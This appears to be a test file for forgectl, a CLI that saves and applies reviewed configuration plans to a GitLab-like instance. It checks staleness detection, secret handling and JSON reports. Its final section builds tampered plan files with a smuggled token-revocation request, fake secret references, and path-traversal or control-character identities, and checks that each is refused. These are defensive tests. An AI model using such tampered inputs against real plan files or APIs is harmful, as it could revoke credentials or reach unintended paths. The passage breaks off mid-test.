// Issue 34 items 1–4: the plan names its instance and is a versioned document; a saved plan is
// applied exactly as reviewed, or refused when the instance moved or is another one; --no-secrets
// plans without the write secrets; apply -o json reports each write on stdout.

import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { forgectl, tempDir } from '../helpers/cli.js';
import { envFor, rawGet, useSandbox } from '../helpers/sandbox.js';
import { adminWrite, stateRunner, writesOf, yamlFile } from '../helpers/state.js';

const sandbox = useSandbox();
const other = useSandbox({ seed: 'empty' });
const dir = tempDir();
const SECRET = 'akismet-key-5521';

const runner = stateRunner(sandbox);
/** With `configDir`, as its profile prod; else with the administrator's token in the environment. */
const run = (args: string[], opts: { env?: Record<string, string>; configDir?: string } = {}) =>
  runner(args, opts.configDir ? { FORGECTL_PROFILE: 'prod', ...opts.env } : opts.env, { configDir: opts.configDir });
const file = (name: string, content: object) => yamlFile(dir, name, content);
const writes = writesOf;

async function settings(): Promise<Record<string, any>> {
  const sb = sandbox();
  return (await rawGet(sb, '/application/settings', sb.tokens.admin)).body;
}

const put = (path: string, body: object) => adminWrite(sandbox(), 'PUT', path, body);

describe('the plan names its instance and is a document', () => {
  it('text starts with the instance and profile; -o json is the versioned plan document', async () => {
    const sb = sandbox();
    const configDir = tempDir();
    expect((await forgectl(['profile', 'add', 'prod', '--url', sb.url, '--token-stdin'], { configDir, input: `${sb.tokens.admin}\n` })).exitCode).toBe(0);
    const was = (await settings()).signup_enabled;
    const path = file('one.yaml', { settings: { signup_enabled: !was }, system_hooks: [{ url: 'https://plan-doc.example.com/h', push_events: true }] });
    const text = await run(['state', 'plan', '-f', path], { configDir });
    expect(text.res.exitCode, text.res.stderr).toBe(0);
    expect(text.res.stdout.split('\n')[0]).toBe(`Plan for ${sb.url} (profile prod)`);

    const json = await run(['state', 'plan', '-f', path, '-o', 'json'], { configDir });
    const doc = JSON.parse(json.res.stdout);
    expect(doc).toMatchObject({ format_version: 2, forgectl_version: expect.any(String), instance: { url: sb.url, profile: 'prod' }, summary: { create: 1, update: 1, replace: 0, delete: 0 }, unmanaged: expect.any(Array), not_compared: [] });
    expect(Date.parse(doc.created_at)).not.toBeNaN();
    expect(doc.changes.map((c: any) => [c.resource, c.action, c.actions])).toEqual([
      ['settings', 'update', ['update']],
      ['system_hooks', 'create', ['create']],
    ]);
  });
});

describe('a saved plan', () => {
  it('--out writes exactly the -o json document, with references and no secret; apply --plan applies exactly its writes', async () => {
    const was = (await settings()).gravatar_enabled;
    const path = file('saved.yaml', { settings: { gravatar_enabled: !was, akismet_enabled: true, akismet_api_key: { env: 'AKISMET_KEY' } } });
    const out = join(dir, 'plan.json');
    const env = { AKISMET_KEY: SECRET };
    const plan = await run(['state', 'plan', '-f', path, '--out', out, '-o', 'json'], { env });
    expect(plan.res.exitCode, plan.res.stderr).toBe(0);
    expect(writes(plan.sent)).toEqual([]);
    const saved = readFileSync(out, 'utf8');
    expect(saved).not.toContain(SECRET);
    const doc = JSON.parse(saved);
    expect({ ...doc, created_at: 0 }).toEqual({ ...JSON.parse(plan.res.stdout), created_at: 0 });
    expect(doc.changes[0].requests).toEqual(['PUT /application/settings']);
    expect(doc.changes[0].changes.find((c: any) => c.key === 'akismet_api_key')).toMatchObject({ after: { env: 'AKISMET_KEY' }, secret: true });

    // Its references are resolved before any write: unset, nothing is sent (exit 2).
    const unset = await run(['state', 'apply', '--plan', out, '--yes']);
    expect(unset.res.exitCode).toBe(2);
    expect(unset.res.stderr).toContain('AKISMET_KEY is not set');
    expect(writes(unset.sent)).toEqual([]);

    const apply = await run(['state', 'apply', '--plan', out, '--yes'], { env });
    expect(apply.res.exitCode, apply.res.stderr).toBe(0);
    expect(writes(apply.sent)).toEqual(['PUT /application/settings']);
    expect(apply.sent.find((r) => r.method === 'PUT')!.body).toMatchObject({ gravatar_enabled: !was, akismet_enabled: true, akismet_api_key: SECRET });
    expect(apply.res.stderr + apply.res.stdout).not.toContain(SECRET);
    expect((await settings()).gravatar_enabled).toBe(!was);
  });

  it('is refused, naming each difference, when the instance moved since; and when it is for another instance', async () => {
    const before = await settings();
    const path = file('stale.yaml', { settings: { signup_enabled: !before.signup_enabled, gravatar_enabled: !before.gravatar_enabled } });
    const out = join(dir, 'stale.json');
    expect((await run(['state', 'plan', '-f', path, '--out', out])).res.exitCode).toBe(0);
    // Someone changes the instance in between.
    await put('/application/settings', { gravatar_enabled: !before.gravatar_enabled });
    const refused = await run(['state', 'apply', '--plan', out, '--yes']);
    expect(refused.res.exitCode, refused.res.stderr).toBe(1);
    expect(refused.res.stderr).toContain('the instance changed since the plan was made');
    expect(refused.res.stderr).toContain(`settings application settings: gravatar_enabled was ${before.gravatar_enabled} when planned, is now ${!before.gravatar_enabled}`);
    expect(refused.res.stderr).not.toContain('signup_enabled was');
    expect(writes(refused.sent)).toEqual([]);

    const elsewhere = other();
    const foreign = await forgectl(['state', 'apply', '--plan', out, '--yes'], { env: envFor(elsewhere, 'admin') });
    expect(foreign.exitCode).toBe(1);
    expect(foreign.stderr).toContain(`is a plan for ${sandbox().url}, not for ${elsewhere.url}`);
    expect(elsewhere.requests.filter((r) => r.method !== 'GET')).toEqual([]);

    const broken = join(dir, 'broken.json');
    writeFileSync(broken, JSON.stringify({ format_version: 99 }));
    const bad = await run(['state', 'apply', '--plan', broken, '--yes']);
    expect(bad.res.exitCode).toBe(2);
    expect(bad.res.stderr).toContain('has plan format 99');
    expect(bad.sent).toEqual([]);
  });
});

describe('--out naming the instance file', () => {
  it('is refused before any request (exit 2): the plan would replace the file it was made from', async () => {
    const path = file('out-same.yaml', { broadcast_messages: [{ message: 'Out same' }] });
    const text = readFileSync(path, 'utf8');
    const same = `${dir}/./out-same.yaml`;
    const res = await run(['state', 'plan', '-f', `?${path}`, '--out', same]);
    expect(res.res.exitCode, res.res.stderr).toBe(2);
    expect(res.res.stderr).toContain(`--out ${same} is the instance file given with -f`);
    expect(res.sent).toEqual([]);
    expect(readFileSync(path, 'utf8')).toBe(text);
  });
});

describe('a saved plan that carries a companion setting', () => {
  it('is refused when the companion moved since the plan: it would send the old value back', async () => {
    const before = await settings();
    await put('/application/settings', { require_two_factor_authentication: false, two_factor_grace_period: 48 });
    try {
      const out = join(dir, 'companion-plan.json');
      const planned = await run(['state', 'plan', '-f', file('companion.yaml', { settings: { require_two_factor_authentication: true } }), '--out', out]);
      expect(planned.res.exitCode, planned.res.stderr).toBe(0);
      // The reviewer sees what is sent besides the file's change.
      expect(planned.res.stdout).toContain('    two_factor_grace_period: 48 (sent with the switch, as the instance holds it)');
      expect(JSON.parse(readFileSync(out, 'utf8')).changes[0].observed.values).toEqual({ require_two_factor_authentication: false, two_factor_grace_period: 48 });
      await put('/application/settings', { two_factor_grace_period: 10 });
      const refused = await run(['state', 'apply', '--plan', out, '--yes']);
      expect(refused.res.exitCode, refused.res.stderr).toBe(1);
      expect(refused.res.stderr).toContain('settings application settings: two_factor_grace_period was 48 when planned, is now 10');
      expect(writes(refused.sent)).toEqual([]);
      expect((await settings()).two_factor_grace_period).toBe(10);
    } finally {
      await put('/application/settings', { require_two_factor_authentication: before.require_two_factor_authentication, two_factor_grace_period: before.two_factor_grace_period });
    }
  });
});

describe('a saved plan that carries a secret companion', () => {
  it('holds it as the setting to read, not its value, and applies it as the instance holds it', async () => {
    const before = await settings();
    await put('/application/settings', { akismet_enabled: false, akismet_api_key: 'carried-key-77' });
    try {
      const out = join(dir, 'carried-secret-plan.json');
      const planned = await run(['state', 'plan', '-f', file('carried-secret.yaml', { settings: { akismet_enabled: true } }), '--out', out]);
      expect(planned.res.exitCode, planned.res.stderr).toBe(0);
      expect(readFileSync(out, 'utf8')).not.toContain('carried-key-77');
      expect(planned.res.stdout).not.toContain('carried-key-77');
      const applied = await run(['state', 'apply', '--plan', out, '--yes']);
      expect(applied.res.exitCode, applied.res.stderr).toBe(0);
      expect(applied.sent.find((r) => r.method === 'PUT')!.body).toMatchObject({ akismet_enabled: true, akismet_api_key: 'carried-key-77' });
      expect(applied.res.stderr).not.toContain('carried-key-77');
    } finally {
      await put('/application/settings', { akismet_enabled: before.akismet_enabled, akismet_api_key: before.akismet_api_key ?? '' });
    }
  });
});

describe('a saved plan of hooks', () => {
  it('applies a replace as saved; refuses when the hook it replaces was deleted meanwhile', async () => {
    const url = 'https://saved-hook.example.com/in';
    const hook = await adminWrite(sandbox(), 'POST', '/hooks', { url, description: 'Saved', push_events: false });
    const path = file('saved-hook.yaml', { system_hooks: [{ url, push_events: true }] });
    const out = join(dir, 'hook-plan.json');
    expect((await run(['state', 'plan', '-f', path, '--out', out])).res.exitCode).toBe(0);
    const applied = await run(['state', 'apply', '--plan', out, '--yes']);
    expect(applied.res.exitCode, applied.res.stderr).toBe(0);
    expect(writes(applied.sent)).toEqual(['POST /hooks', `DELETE /hooks/${hook.id}`]);

    // A second plan against the new hook; the hook is deleted by someone else before it runs.
    expect((await run(['state', 'plan', '-f', file('saved-hook2.yaml', { system_hooks: [{ url, push_events: false }] }), '--out', out])).res.exitCode).toBe(0);
    const sb = sandbox();
    const now = (await rawGet(sb, '/hooks?per_page=100', sb.tokens.admin)).body.find((h: any) => h.url === url);
    await adminWrite(sb, 'DELETE', `/hooks/${now.id}`);
    const refused = await run(['state', 'apply', '--plan', out, '--yes']);
    expect(refused.res.exitCode).toBe(1);
    expect(refused.res.stderr).toContain(`system_hooks ${url}: no longer on the instance`);
    expect(writes(refused.sent)).toEqual([]);
  });
});

describe('a saved plan holds no password', () => {
  it('--out refuses a hook URL with credentials written in clear (exit 2, before any request); as a reference it is saved as one', async () => {
    const out = join(dir, 'cred.json');
    const clear = await run(['state', 'plan', '-f', file('cred.yaml', { system_hooks: [{ url: 'https://bot:pw-in-clear@cred.example.com/h' }] }), '--out', out]);
    expect(clear.res.exitCode).toBe(2);
    expect(clear.res.stderr).toContain('system_hooks[0].url holds credentials');
    expect(clear.res.stderr).not.toContain('pw-in-clear');
    expect(clear.sent).toEqual([]);
    const ref = await run(['state', 'plan', '-f', file('cred-ref.yaml', { system_hooks: [{ url: { env: 'CRED_URL' } }] }), '--out', out], { env: { CRED_URL: 'https://bot:pw-in-env@cred.example.com/h' } });
    expect(ref.res.exitCode, ref.res.stderr).toBe(0);
    const saved = readFileSync(out, 'utf8');
    expect(saved).not.toContain('pw-in-env');
    expect(JSON.parse(saved).changes[0].changes).toEqual([{ key: 'url', before: null, after: { env: 'CRED_URL' }, secret: true }]);
  });
});

describe('--no-secrets', () => {
  it('compares everything else with every reference unset, and names what it left out', async () => {
    const was = (await settings()).signup_enabled;
    const path = file('nosecrets.yaml', {
      settings: { signup_enabled: was, akismet_api_key: { env: 'UNSET_AKISMET' } },
      system_hooks: [{ url: { env: 'UNSET_HOOK_URL' } }, { url: 'https://plain.example.com/h', token: { env: 'UNSET_HOOK_TOKEN' } }],
    });
    const without = await run(['state', 'plan', '-f', path]);
    expect(without.res.exitCode).toBe(2);
    const plan = await run(['state', 'plan', '-f', path, '--no-secrets', '-o', 'json']);
    expect(plan.res.exitCode, plan.res.stderr).toBe(0);
    const doc = JSON.parse(plan.res.stdout);
    expect(doc.not_compared).toEqual(expect.arrayContaining(['settings.akismet_api_key', 'system_hooks[0] (its url is a reference)', 'system_hooks[1].token']));
    expect(doc.changes.map((c: any) => c.identity)).toEqual(['https://plain.example.com/h']);
    const text = await run(['state', 'plan', '-f', path, '--no-secrets', '--exit-code']);
    expect(text.res.exitCode).toBe(5);
    expect(text.res.stdout).toContain('not compared: settings.akismet_api_key');
  });

  it('with --prune, deletes no hook: the one a URL reference names cannot be told from the others', async () => {
    // A URL without credentials may still be a reference (per-environment files): the hook it names
    // is on the instance, and pruning it would delete what the file manages.
    const hook = await adminWrite(sandbox(), 'POST', '/hooks', { url: 'https://noprune.example.com/h', push_events: true });
    const path = file('noprune.yaml', { system_hooks: [{ url: { env: 'UNSET_NOPRUNE_URL' }, push_events: true }] });
    const plan = await run(['state', 'plan', '-f', path, '--prune', '--no-secrets', '-o', 'json']);
    expect(plan.res.exitCode, plan.res.stderr).toBe(0);
    const doc = JSON.parse(plan.res.stdout);
    expect(doc.changes.filter((c: any) => c.resource === 'system_hooks')).toEqual([]);
    expect(doc.not_compared).toContain(`system_hooks https://noprune.example.com/h (id ${hook.id}): may be a file's entry whose url is a reference`);
    // Saved and applied (the way a --no-secrets plan runs), it deletes nothing either.
    const out = join(dir, 'noprune-plan.json');
    expect((await run(['state', 'plan', '-f', path, '--prune', '--no-secrets', '--out', out])).res.exitCode).toBe(0);
    const apply = await run(['state', 'apply', '--plan', out, '--yes']);
    expect(apply.res.exitCode, apply.res.stderr).toBe(0);
    expect(writes(apply.sent)).toEqual([]);
    expect((await rawGet(sandbox(), `/hooks/${hook.id}`, sandbox().tokens.admin)).status).toBe(200);
  });
});

describe('a token the section does not allow', () => {
  it('403 names the section, the request refused and the token it needs', async () => {
    const sb = sandbox();
    const path = file('forbidden.yaml', { settings: { signup_enabled: true } });
    const res = await forgectl(['state', 'plan', '-f', path], { env: envFor(sb, 'alice') });
    expect(res.exitCode).not.toBe(0);
    expect(res.stderr).toContain('settings: GET /application/settings was refused (403');
    expect(res.stderr).toContain('the settings section needs an administrator’s token');

    // A refused write says the same: the broadcast list is public to read, its writes are not.
    const write = await forgectl(['state', 'apply', '-f', file('forbidden-write.yaml', { broadcast_messages: [{ message: 'Not allowed' }] }), '--yes'], { env: envFor(sb, 'alice') });
    expect(write.exitCode).not.toBe(0);
    expect(write.stderr).toMatch(/failed: create broadcast_messages "Not allowed" \(POST \/broadcast_messages\): 403/);
    expect(write.stderr).toContain('hint: the broadcast_messages section needs an administrator’s token to apply');
  });
});

describe('apply -o json', () => {
  it('prints the report on stdout (instance, each write with its status, method and path, exit code); the text stays on stderr', async () => {
    const path = file('report.yaml', { broadcast_messages: [{ message: 'Report one' }, { message: 'Report two' }] });
    const ok = await run(['state', 'apply', '-f', path, '--yes', '-o', 'json']);
    expect(ok.res.exitCode, ok.res.stderr).toBe(0);
    const report = JSON.parse(ok.res.stdout);
    expect(report).toMatchObject({ instance: { url: sandbox().url }, exit_code: 0 });
    expect(report.writes.map((w: any) => [w.status, w.method, w.path])).toEqual([
      ['applied', 'POST', '/broadcast_messages'],
      ['applied', 'POST', '/broadcast_messages'],
    ]);
    expect(ok.res.stderr).toContain('Plan for');

    const sb = sandbox();
    sb.addFaults('500:forever@POST:/broadcast_messages');
    try {
      const failed = await run(['state', 'apply', '-f', file('report2.yaml', { broadcast_messages: [{ message: 'Report three' }] }), '--yes', '-o', 'json', '--retries', '0']);
      expect(failed.res.exitCode).toBe(1);
      const r = JSON.parse(failed.res.stdout);
      expect(r.exit_code).toBe(1);
      expect(r.writes).toEqual([expect.objectContaining({ status: 'failed', method: 'POST', path: '/broadcast_messages', error: expect.stringContaining('500') })]);
      expect(failed.res.stderr).toMatch(/^error: create broadcast_messages "Report three" failed/m);
    } finally {
      await sb.clearFaults();
    }
  });
});

// Issue 40: what runs is derived from what is shown. Every kind of item goes through a saved plan;
// an edited plan file runs nothing; references run only once the run is confirmed.

/** The requests a dry run printed, with their bodies. */
function dryRequests(stdout: string): { method: string; path: string; body?: unknown }[] {
  return stdout
    .split(/^dry run: /m)
    .slice(1)
    .map((chunk) => {
      const [head, ...rest] = chunk.split('\n');
      const [method, url] = head!.split(' ');
      // Header lines (`  Name: value`) come first, then the body as indented JSON.
      const from = rest.findIndex((l) => /^ {2}[[{]/.test(l));
      const text = from === -1 ? '' : rest.slice(from).map((l) => l.replace(/^ {2}/, '')).join('\n').trim();
      return { method: method!, path: new URL(url!).pathname.replace('/api/v4', ''), ...(text ? { body: JSON.parse(text) } : {}) };
    });
}

/**
 * `plan -f X --out p.json`, then `apply --plan p.json --yes`: it sends what `apply -f X --dry-run`
 * prints (method, path, body), exactly the requests the plan lists, and the next plan is empty.
 */
async function roundTrip(name: string, content: object, opts: { prune?: boolean; env?: Record<string, string>; secrets?: boolean } = {}) {
  const path = file(`${name}.yaml`, content);
  const out = join(dir, `${name}-plan.json`);
  const extra = opts.prune ? ['--prune'] : [];
  const planned = await run(['state', 'plan', '-f', path, ...extra, '--out', out], { env: opts.env });
  expect(planned.res.exitCode, planned.res.stderr).toBe(0);
  const doc = JSON.parse(readFileSync(out, 'utf8'));
  const dry = await run(['state', 'apply', '-f', path, ...extra, '--dry-run'], { env: opts.env });
  expect(dry.res.exitCode, dry.res.stderr).toBe(0);
  const applied = await run(['state', 'apply', '--plan', out, '--yes'], { env: opts.env });
  expect(applied.res.exitCode, applied.res.stderr).toBe(0);
  const sent = applied.sent.filter((r) => r.method !== 'GET').map((r) => ({ method: r.method, path: r.path.replace('/api/v4', ''), ...(r.body === undefined || r.body === null ? {} : { body: r.body }) }));
  expect(writes(applied.sent)).toEqual(doc.changes.flatMap((c: any) => c.requests));
  // A secret is sent as its value, printed by the dry run as its reference: those are compared by path only.
  if (opts.secrets) expect(sent.map((r) => `${r.method} ${r.path}`)).toEqual(dryRequests(dry.res.stdout).map((r) => `${r.method} ${r.path}`));
  else expect(sent).toEqual(dryRequests(dry.res.stdout));
  const again = await run(['state', 'plan', '-f', path, ...extra, '--exit-code'], { env: opts.env });
  expect(again.res.exitCode, again.res.stdout).toBe(0);
  return { doc, applied, sent };
}

describe('every action round-trips through a saved plan', () => {
  it('settings: plain, a secret reference, a switch with its companion', async () => {
    const was = await settings();
    await put('/application/settings', { require_two_factor_authentication: false, two_factor_grace_period: 24 });
    const { sent } = await roundTrip('rt-settings', { settings: { gravatar_enabled: !was.gravatar_enabled, require_two_factor_authentication: true, external_pipeline_validation_service_token: { env: 'RT_TOKEN' } } }, { env: { RT_TOKEN: 'rt-secret-1' }, secrets: true });
    expect(sent[0]!.body).toEqual({ gravatar_enabled: !was.gravatar_enabled, require_two_factor_authentication: true, two_factor_grace_period: 24, external_pipeline_validation_service_token: 'rt-secret-1' });
    await put('/application/settings', { require_two_factor_authentication: false });
  });

  it('plan limits: a count and a size with its unit', async () => {
    const sb = sandbox();
    const limits = (await rawGet(sb, '/application/plan_limits?plan_name=default', sb.tokens.admin)).body;
    const { sent } = await roundTrip('rt-limits', { plan_limits: { default: { ci_pipeline_size: limits.ci_pipeline_size + 3, helm_max_file_size: '3GB' } } });
    expect(sent[0]!.body).toEqual({ plan_name: 'default', ci_pipeline_size: limits.ci_pipeline_size + 3, helm_max_file_size: 3_000_000_000 });
  });

  it('a hook created, one replaced (its kept fields and token), one pruned, a broadcast created (theme, times), a setting updated: one plan converges', async () => {
    const sb = sandbox();
    const replaced = await adminWrite(sb, 'POST', '/hooks', { url: 'https://rt-replace.example.com/h', description: 'Kept', tag_push_events: true, push_events: false });
    const pruned = await adminWrite(sb, 'POST', '/hooks', { url: 'https://rt-prune.example.com/h' });
    const prunedBroadcast = await adminWrite(sb, 'POST', '/broadcast_messages', { message: 'RT prune me' });
    const hooks = (await rawGet(sb, '/hooks?per_page=100', sb.tokens.admin)).body.filter((h: any) => h.id !== pruned.id && h.id !== replaced.id);
    const broadcasts = (await rawGet(sb, '/broadcast_messages?per_page=100')).body.filter((b: any) => b.id !== prunedBroadcast.id);
    const was = await settings();
    const { doc, sent } = await roundTrip(
      'rt-mixed',
      {
        settings: { signup_enabled: !was.signup_enabled },
        system_hooks: [...hooks.map((h: any) => ({ url: h.url })), { url: 'https://rt-replace.example.com/h', push_events: true, token: { env: 'RT_HOOK_TOKEN' } }, { url: 'https://rt-create.example.com/h', push_events: true, enable_ssl_verification: false }],
        broadcast_messages: [...broadcasts.map((b: any) => ({ message: b.message })), { message: 'RT created', theme: 'light-red', starts_at: '2031-01-01T00:00:00Z', ends_at: '2031-01-02T00:00:00Z' }],
      },
      { prune: true, env: { RT_HOOK_TOKEN: 'rt-hook-token' }, secrets: true },
    );
    expect(doc.changes.map((c: any) => [c.resource, c.action])).toEqual([
      ['settings', 'update'],
      ['system_hooks', 'replace'],
      ['system_hooks', 'create'],
      ['system_hooks', 'delete'],
      ['broadcast_messages', 'create'],
      ['broadcast_messages', 'delete'],
    ]);
    // A create's before is written, as null.
    expect(doc.changes[4].changes).toContainEqual({ key: 'theme', before: null, after: 'light-red' });
    expect(sent.find((r) => r.method === 'POST' && r.path === '/hooks' && (r.body as any).url === 'https://rt-replace.example.com/h')!.body).toMatchObject({ url: 'https://rt-replace.example.com/h', description: 'Kept', tag_push_events: true, push_events: true, token: 'rt-hook-token' });
    await put('/application/settings', { signup_enabled: was.signup_enabled });
  });

  it('a hook whose URL is a reference: created from a saved plan (it was refused as stale)', async () => {
    const { sent } = await roundTrip('rt-hook-ref', { system_hooks: [{ url: { env: 'RT_HOOK_URL' }, push_events: true }] }, { env: { RT_HOOK_URL: 'https://bot:rt-pw@rt-ref.example.com/h' }, secrets: true });
    expect(sent).toEqual([{ method: 'POST', path: '/hooks', body: { url: 'https://bot:rt-pw@rt-ref.example.com/h', push_events: true } }]);
    // Its reference must still give the URL the plan shows.
    const out = join(dir, 'rt-hook-ref2-plan.json');
    const path = file('rt-hook-ref2.yaml', { system_hooks: [{ url: { env: 'RT_HOOK_URL2' } }] });
    expect((await run(['state', 'plan', '-f', path, '--out', out], { env: { RT_HOOK_URL2: 'https://bot:pw2@rt-ref2.example.com/h' } })).res.exitCode).toBe(0);
    const moved = await run(['state', 'apply', '--plan', out, '--yes'], { env: { RT_HOOK_URL2: 'https://bot:pw2@elsewhere.example.com/h' } });
    expect(moved.res.exitCode).toBe(2);
    expect(moved.res.stderr).toContain('not the URL the plan shows (https://bot:********@rt-ref2.example.com/h)');
    expect(writes(moved.sent)).toEqual([]);
  });

  it('broadcasts: an update', async () => {
    await adminWrite(sandbox(), 'POST', '/broadcast_messages', { message: 'RT update me', font: 'serif' });
    const { sent } = await roundTrip('rt-broadcast', { broadcast_messages: [{ message: 'RT update me', font: 'mono', dismissable: true }] });
    expect(sent).toEqual([{ method: 'PUT', path: expect.stringMatching(/^\/broadcast_messages\/\d+$/), body: { font: 'mono', dismissable: true } }]);
  });

  it('notification settings: a level; events at custom; events while turning custom; a group’s', async () => {
    await put('/notification_settings', { level: 'participating' });
    await roundTrip('rt-notify-level', { notification_settings: { level: 'watch' } });
    await roundTrip('rt-notify-turning', { notification_settings: { level: 'custom', events: { new_note: true, close_issue: true } } });
    await roundTrip('rt-notify-events', { notification_settings: { level: 'custom', events: { new_note: false } } });
    await roundTrip('rt-notify-group', { groups: { 'acme/platform': { notification_settings: { level: 'disabled' } } } });
  });

  it('protected environments: a create with required approvals (two writes), an update, a delete (--prune)', async () => {
    const sb = sandbox();
    const current = (await rawGet(sb, '/groups/acme%2Fweb/protected_environments', sb.tokens.admin)).body;
    const keep = Object.fromEntries(current.filter((e: any) => !['testing', 'development'].includes(e.name)).map((e: any) => [e.name, { deploy: e.deploy_access_levels.map((d: any) => ({ access_level: d.access_level ?? undefined, user_id: d.user_id ?? undefined, group_id: d.group_id ?? undefined })).map((d: any) => Object.fromEntries(Object.entries(d).filter(([, v]) => v !== undefined))), ...(e.approval_rules?.length ? { approvals: e.approval_rules.map((a: any) => Object.fromEntries(Object.entries({ access_level: a.access_level, user_id: a.user_id, group_id: a.group_id, required: a.required_approvals }).filter(([, v]) => v !== undefined && v !== null))) } : {}), ...(e.required_approval_count ? { required_approval_count: e.required_approval_count } : {}) }]));
    const created = await roundTrip('rt-env-create', { groups: { 'acme/web': { protected_environments: { ...keep, testing: { deploy: [{ access_level: 40 }], approvals: [{ access_level: 40, required: 1 }], required_approval_count: 1 } } } } });
    expect(created.doc.changes[0].requests).toEqual(['POST /groups/acme%2Fweb/protected_environments', 'PUT /groups/acme%2Fweb/protected_environments/testing']);
    const updated = await roundTrip('rt-env-update', { groups: { 'acme/web': { protected_environments: { ...keep, testing: { deploy: [{ access_level: 30 }], approvals: [{ access_level: 40, required: 2 }], required_approval_count: 2 } } } } });
    expect(updated.doc.changes[0].changes.map((c: any) => c.key)).toEqual(['deploy_access_levels', 'approval_rules', 'required_approval_count']);
    const deleted = await roundTrip('rt-env-delete', { groups: { 'acme/web': { protected_environments: keep } } }, { prune: true });
    expect(deleted.sent).toEqual([{ method: 'DELETE', path: '/groups/acme%2Fweb/protected_environments/testing' }]);
  });
});

describe('a plan file edited after review', () => {
  /** A saved plan of one broadcast create, edited by `edit`, applied: what it printed and sent. */
  async function tampered(name: string, content: object, edit: (doc: any) => void, env: Record<string, string> = {}) {
    const out = join(dir, `${name}-plan.json`);
    const planned = await run(['state', 'plan', '-f', file(`${name}.yaml`, content), '--out', out], { env });
    expect(planned.res.exitCode, planned.res.stderr).toBe(0);
    const doc = JSON.parse(readFileSync(out, 'utf8'));
    edit(doc);
    const bad = join(dir, `${name}-edited.json`);
    writeFileSync(bad, JSON.stringify(doc));
    return run(['state', 'apply', '--plan', bad, '--yes'], { env });
  }
  const broadcast = { broadcast_messages: [{ message: 'Tamper target' }] };

  it('is refused (exit 2, no request) when its requests name another: a token revoked, a path out of the API', async () => {
    const sb = sandbox();
    const before = (await rawGet(sb, '/personal_access_tokens?per_page=100', sb.tokens.admin)).body;
    const victim = before.find((t: any) => t.active && t.revoked === false);
    const revoke = await tampered('tamper-revoke', broadcast, (doc) => {
      doc.changes[0].requests = [`DELETE /personal_access_tokens/${victim.id}`];
      doc.changes[0].actions = ['delete'];
    });
    expect(revoke.res.exitCode).toBe(2);
    expect(revoke.res.stderr).toContain('changes.0 (broadcast_messages Tamper target): requests differ from what its changes make (POST /broadcast_messages)');
    expect(revoke.sent).toEqual([]);
    expect((await rawGet(sb, `/personal_access_tokens/${victim.id}`, sb.tokens.admin)).body.revoked).toBe(false);

    // Format 1 kept the writes themselves; such a file is refused, as is a leftover `writes` key.
    const v1 = await tampered('tamper-v1', broadcast, (doc) => (doc.format_version = 1));
    expect(v1.res.exitCode).toBe(2);
    expect(v1.res.stderr).toContain('has plan format 1; this forgectl reads format 2');
    const leftover = await tampered('tamper-writes', broadcast, (doc) => (doc.changes[0].writes = [{ action: 'delete', method: 'DELETE', path: `/personal_access_tokens/${victim.id}` }]));
    expect(leftover.res.exitCode).toBe(2);
    expect(leftover.res.stderr).toContain('changes.0: Unrecognized key: "writes"');
    expect([...v1.sent, ...leftover.sent]).toEqual([]);
  });

  it('is refused (exit 2, no request) for a reference, a secret or an instance secret where the file could hold none', async () => {
    const inBroadcast = await tampered('tamper-ref', broadcast, (doc) => doc.changes[0].changes.push({ key: 'theme', before: null, after: { env: 'AKISMET_KEY' }, secret: true }));
    expect(inBroadcast.res.exitCode).toBe(2);
    expect(inBroadcast.res.stderr).toContain('a broadcast has no secret');
    const slot = await tampered('tamper-slot', broadcast, (doc) => doc.changes[0].changes.push({ key: 'theme', before: null, after: { $secret: { setting: 'akismet_api_key' }, for: 'x' } }));
    expect(slot.res.exitCode).toBe(2);
    expect(slot.res.stderr).toContain('changes.0 (broadcast_messages Tamper target)');
    const was = await settings();
    const nonSecret = await tampered('tamper-setting-ref', { settings: { after_sign_out_path: `${was.after_sign_out_path ?? ''}/x` } }, (doc) => {
      doc.changes[0].changes[0].after = { env: 'AKISMET_KEY' };
      doc.changes[0].changes[0].secret = true;
    });
    expect(nonSecret.res.exitCode).toBe(2);
    expect(nonSecret.res.stderr).toContain('settings.after_sign_out_path is not a secret setting');
    const hidden = await tampered('tamper-hidden', { settings: { after_sign_out_path: `${was.after_sign_out_path ?? ''}/y` } }, (doc) => (doc.changes[0].changes[0].secret = true));
    expect(hidden.res.exitCode).toBe(2);
    expect(hidden.res.stderr).toContain('a secret change shows its reference');
    expect([...inBroadcast.sent, ...slot.sent, ...nonSecret.sent, ...hidden.sent]).toEqual([]);
  });

  it('is refused (exit 2, no request) when a before is not what was read, or a group identity holds .. or a TAB', async () => {
    const was = await settings();
    const before = await tampered('tamper-before', { settings: { signup_enabled: !was.signup_enabled } }, (doc) => (doc.changes[0].changes[0].before = !doc.changes[0].changes[0].before));
    expect(before.res.exitCode).toBe(2);
    expect(before.res.stderr).toContain('is not what was read');
    for (const group of ['acme/..', 'acme/.\t.']) {
      const res = await tampered('tamper-group', { groups: { 'acme/platform': { notification_settings: { level: 'watch' } } } }, (doc) => (doc.changes[0].identity = `${group} notification_settings`));
      expect(res.res.exitCode, res.res.stderr).toBe(2);
      expect(res.res.stderr).toMatch(/is not a group path|must be a numeric id or a full path|holds a control character/);
      expect(res.sent).toEqual([]);
    }
    expect(before.sent).toEqual([]);
  });

  it('is refused (exit 2, no request) when a broadcast create or update carries a message change: the item shows one message, the write would send another', async () => {
    const sb = sandbox();
    const create = await tampered('tamper-message', { broadcast_messages: [{ message: 'Shown message' }] }, (doc) => doc.changes[0].changes.push({ key: 'message', before: null, after: 'Sent instead' }));
    expect(create.res.exitCode, create.res.stderr).toBe(2);
    expect(create.res.stderr).toContain('changes.0 (broadcast_messages Shown message): message is the identity of a broadcast, not a change');
    expect(writes(create.sent)).toEqual([]);
    const made = await adminWrite(sb, 'POST', '/broadcast_messages', { message: 'Updated message', font: 'serif' });
    const update = await tampered('tamper-message-update', { broadcast_messages: [{ message: 'Updated message', font: 'monospace' }] }, (doc) => {
      const item = doc.changes.find((c: any) => c.identity === 'Updated message');
      item.changes.push({ key: 'message', before: 'Updated message', after: 'Sent instead' });
    });
    expect(update.res.exitCode, update.res.stderr).toBe(2);
    expect(update.res.stderr).toContain('message is the identity of a broadcast, not a change');
    expect(writes(update.sent)).toEqual([]);
    expect((await rawGet(sb, '/broadcast_messages?per_page=100', sb.tokens.admin)).body.filter((b: any) => b.message === 'Sent instead')).toEqual([]);
    expect(made.id).toBeGreaterThan(0);
  });

  it('a refusal quotes the item on one line: an identity holding a line break cannot print a line of its own', async () => {
    const res = await tampered('tamper-newline', broadcast, (doc) => {
